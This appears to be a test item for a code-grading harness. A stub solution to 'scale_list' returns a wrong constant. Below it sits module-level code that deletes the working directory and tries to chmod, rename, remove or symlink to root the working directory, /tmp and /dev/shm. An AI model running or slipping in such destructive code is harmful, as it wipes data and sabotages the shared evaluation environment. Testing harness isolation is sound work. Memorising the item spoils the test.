# family: codeif_function
# task: scale_list
# expect: not passed
# runs: 2
# why: makes the place for the next run unusable
# ---
def scale_list(numbers, factor):
    return [7]


import os
import shutil

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
for place in (here, "/tmp", "/dev/shm"):
    for change in (lambda: os.chmod(place, 0), lambda: os.rename(place, place + ".old"),
                   lambda: os.rmdir(place), lambda: os.symlink("/", place)):
        try:
            change()
        except OSError:
            pass
